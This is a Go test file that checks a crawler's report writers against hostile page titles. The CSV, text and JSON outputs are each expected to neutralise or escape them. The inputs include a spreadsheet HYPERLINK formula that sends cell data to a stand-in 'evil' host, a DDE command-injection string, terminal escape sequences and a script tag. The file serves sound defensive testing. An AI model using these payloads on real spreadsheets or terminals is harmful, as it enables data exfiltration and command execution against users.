package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// TestHostileTitles: titles and URLs are a crawled page's, so anybody's.
// A title a spreadsheet would run as a formula (=, +, -, @, a tab, a
// carriage return first) is a CSV cell starting with a quote; a title
// with a terminal escape sequence, line breaks, tabs or a right-to-left
// override prints none of them in the text report (one line per
// cluster); the JSON report keeps every title as it is (JSON is no
// spreadsheet nor terminal), escaped as JSON.
func TestHostileTitles(t *testing.T) {
	titles := []string{
		"=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\tTabbed", "\rReturned", "\x1b]0;owned\x07\x1b[2Jcleared", "two\nlines", "right\u202Eto left", "<script>alert(1)</script>",
	}
	var src fakeSource
	var index fakeIndex
	for i, title := range titles {
		c := string(rune('a' + i))
		master, copy := "http://i/"+c, "http://i/"+c+"/copy"
		src = append(src, fetched(master, title, "", "text "+c, c, master), fetched(copy, title, "", "text "+c, c, master))
		index = append(index, master)
	}
	r, err := Build(src, index, Options{Top: len(titles)})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := r.WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell %q starts as a formula", cell)
			}
		}
		if row[0] == "largest" {
			seen++
			if title := row[11]; !strings.HasPrefix(title, "'") && strings.ContainsRune("=+-@\t\r", rune(strings.TrimPrefix(title, "'")[0])) {
				t.Errorf("CSV title %q", title)
			}
		}
	}
	if seen != len(titles) {
		t.Errorf("%d clusters in the CSV; want %d", seen, len(titles))
	}

	out.Reset()
	if err := r.WriteText(&out); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	for _, bad := range []string{"\x1b", "\x07", "\r", "\u202E", "two\nlines", "\tTabbed"} {
		if strings.Contains(text, bad) {
			t.Errorf("the text report holds %q", bad)
		}
	}
	if !strings.Contains(text, "two\uFFFDlines") {
		t.Errorf("the text report lacks the title with its line break replaced:\n%s", text)
	}

	out.Reset()
	if err := r.WriteJSON(&out); err != nil {
		t.Fatal(err)
	}
	var back Report
	if err := json.Unmarshal(out.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, c := range back.Largest {
		got[c.Title] = true
	}
	for _, title := range titles {
		if !got[title] {
			t.Errorf("the JSON report lacks the title %q as it is", title)
		}
	}
}
